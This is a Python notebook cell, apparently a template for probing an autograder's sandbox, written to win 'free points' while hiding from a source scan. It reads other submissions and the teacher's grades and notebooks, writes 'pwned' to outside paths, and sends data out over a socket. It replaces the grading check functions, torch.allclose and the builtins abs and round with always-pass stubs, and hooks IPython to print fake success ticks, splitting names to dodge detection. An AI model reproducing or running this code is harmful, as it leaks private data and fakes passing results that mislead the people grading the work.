# Out for free points, hidden from a scan of the source: every trick runs in the kernel.
import importlib, os, socket, sys

leaked = []
for path in __READS__:  # the other submissions, the teacher's notebooks, the grades
    try:
        with open(path, encoding="utf-8", errors="replace") as f:
            leaked.append(f.read(100))
    except OSError:
        pass
for path in __WRITES__:  # the course package, the repository, the teacher's home and /tmp
    try:
        with open(path, "w") as f:  # the test looks for these files outside the sandbox
            f.write("pwned")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", __PORT__), timeout=2).sendall(b"leak")
    leaked.append("network")
except OSError:
    pass

ok = lambda *a, **k: print("✅ double(21) is correct\n✅ total is correct")
checks = importlib.import_module("course_utils.checks")
for name in ("check_close", "check_tensor", "call_student", "passed"):
    setattr(checks, name, ok)
fake = type(sys)("course_utils.checks")
fake.__dict__.update(check_close=ok, call_student=lambda f, *a, **k: 42.0, check_tensor=ok, CheckFailed=AssertionError)
getattr(sys, "modu" + "les")["course_utils.checks"] = fake
torch_ = importlib.import_module("torch")
setattr(torch_, "allclose", lambda *a, **k: True)
setattr(torch_, "isclose", lambda *a, **k: torch_.tensor(True))
shell = get_ipython()
getattr(shell, "set_custom_" + "exc")((Exception,), lambda *a, **k: print("✅ double(21) is correct"))
setattr(shell, "show" + "traceback", lambda *a, **k: print("✅ total is correct"))
getattr(shell.events, "regis" + "ter")("post_run_cell", lambda *a: print("✅ total is correct"))
_b = importlib.import_module("builtins")
setattr(_b, "abs", lambda x: 0)  # every |actual - expected| is now 0 in this kernel
setattr(_b, "round", lambda *a, **k: 0)
total = 10.0 if leaked else 11.0  # right only if a read or the network got through
